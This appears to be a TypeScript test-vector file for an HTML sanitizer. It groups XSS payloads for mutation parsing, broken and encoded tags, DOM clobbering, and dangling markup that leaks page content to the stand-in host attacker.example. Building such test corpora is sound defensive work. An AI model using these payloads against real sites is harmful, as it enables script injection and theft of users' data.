/** Markup that changes its meaning between two parsers, or that misleads scripts and readers without running anything. */
import { group } from './vector.ts';

const mutation = group('markup', 'mutation', {
  'attribute closed by a raw text element':
    '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
  'style inside MathML':
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=window.pwned=1>">',
  'style inside SVG': '<svg><style><img title="</style><img src=x onerror=window.pwned=1>">',
  'title inside SVG': '<svg><title><style><img title="</title><img src=x onerror=window.pwned=1>">',
  'description inside SVG':
    '<svg><desc><noscript><p title="</noscript></desc><img src=x onerror=window.pwned=1>">',
  'nested forms': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>',
  'table foster parent': '<table><a href="javascript:window.pwned=1"><tr><td>click</td></tr></a></table>',
  'select swallows':
    '<select><template><style><!--</template><a rel="--></style></select><img src=x onerror=window.pwned=1>">',
  'text area in an attribute': '<textarea><p title="</textarea><img src=x onerror=window.pwned=1>">',
  'title in an attribute': '<title><p title="</title><img src=x onerror=window.pwned=1>">',
  'frame text in an attribute': '<iframe><p title="</iframe><img src=x onerror=window.pwned=1>">',
  'plain old xmp': '<xmp><p title="</xmp><img src=x onerror=window.pwned=1>">',
  'comment ended by a bang': '<!-- a --!><img src=x onerror="window.pwned=1"> -->',
  'comment ended at once': '<!--><img src=x onerror="window.pwned=1">-->',
  'comment with a dash': '<!---><img src=x onerror="window.pwned=1">-->',
  'bogus comment': '<!x><img src=x onerror="window.pwned=1">',
  'end tag with attributes': '</p onclick="window.pwned=1">',
  'end tag comment': '</ x><img src=x onerror="window.pwned=1">',
  'deep nesting ejects an element': `${'<div>'.repeat(600)}<table><td><form><img src=x onerror=window.pwned=1>`,
  'back quote attribute': '<p title=``onmouseover=window.pwned=1>x</p>',
  'annotation namespace':
    '<math><annotation-xml encoding=x><style><img title="</style><img src=x onerror=window.pwned=1>">',
});

const nested = group('markup', 'nested or broken tag', {
  'tag in a tag': '<scr<script>ipt>window.pwned=1</scr</script>ipt>',
  'removed twice': '<scr<scr<script>ipt>ipt>window.pwned=1</script>',
  'handler in a removed tag': '<im<b>g src=x onerror="window.pwned=1">',
  'word removed from the middle': '<a href="javajavascript:script:window.pwned=1">x</a>',
  'double bracket': '<<script>window.pwned=1//<</script>',
  'no closing bracket': '<img src=x onerror="window.pwned=1"',
  'no closing bracket, next tag': '<img src=x onerror="window.pwned=1" <p>text</p>',
  'quote never closed': '<img alt="<img src=x onerror=window.pwned=1>',
  'quotes out of step': '<img title="a\'><img src=x onerror=window.pwned=1>\'"',
  'equals first': '<img ="x" onerror="window.pwned=1" src=x>',
  'bracket in an attribute': '<b title=">"><img src=x onerror="window.pwned=1"></b>',
  'space before the name': '< img src=x onerror="window.pwned=1">',
  'NUL in the name': '<scr\u0000ipt>window.pwned=1</scr\u0000ipt>',
  'NUL before the name': '<\u0000img src=x onerror="window.pwned=1">',
  'entity once': '&lt;img src=x onerror=&quot;window.pwned=1&quot;&gt;',
  'entity twice': '&amp;lt;img src=x onerror=window.pwned=1&amp;gt;',
  'entity in numbers': '&#60;script&#62;window.pwned=1&#60;/script&#62;',
  'entity without semicolon': '&lt&#x3cimg src=x onerror=window.pwned=1&gt',
  'entity with zeros': '&#x000003C;img src=x onerror=window.pwned=1&#x000003E;',
  'percent encoded': '%3Cimg%20src%3Dx%20onerror%3Dwindow.pwned%3D1%3E',
  'full-width brackets': '＜img src=x onerror=window.pwned=1＞',
  'UTF-7': '+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-',
  'JavaScript escapes': '\\u003cimg src=x onerror=window.pwned=1\\u003e',
  'namespace prefix': '<x:script xmlns:x="http://www.w3.org/1999/xhtml">window.pwned=1</x:script>',
  'crossed emphasis': '<b><i><u></b></i><s></u>text',
  'list closed too often': '</li></ul></article></section>text',
});

const clobbering = group('markup', 'DOM clobbering', {
  'id of a global': '<a id=pwned href="javascript:1">x</a>',
  'form with attributes': '<form id=reply name=reply><input name=attributes><input name=parentNode></form>',
  'form with action': '<form id=search><input name=action value="//attacker.example"></form>',
  'two of one name': '<a id=config></a><a id=config name=url href="//attacker.example/x.js"></a>',
  'name of a document property': '<img name=cookie><img name=body><img name=getElementById>',
  'form named document': '<form name=document><input name=querySelector></form>',
  'id of a heading on the page': '<h2 id="contributions">fake</h2>',
  'id of the main part': '<p id="main">fake</p>',
  'data attributes': '<p data-behaviour="preview draft menu" data-url="//attacker.example">x</p>',
  'label of another field': '<label for=password>Your password goes here</label>',
  'roles and states': '<p role=alert aria-hidden=true aria-label="Decision of the moderators">x</p>',
});

const dangling = group('markup', 'dangling markup', {
  'image that swallows': '<img src="https://attacker.example/?',
  'image in single quotes': "<img src='https://attacker.example/?",
  'link that swallows': '<a href="https://attacker.example/?',
  'target that swallows': '<a href=/ target="',
  'base target that swallows': "<base target='",
  'form that swallows': '<form action=https://attacker.example><textarea name=x>',
  'button that swallows': '<button formaction="https://attacker.example/?',
  'style that swallows': '<style>@import url("https://attacker.example/?',
});

/** Mutation, broken tags, clobbering and dangling markup. */
export const broken = [...mutation, ...nested, ...clobbering, ...dangling];
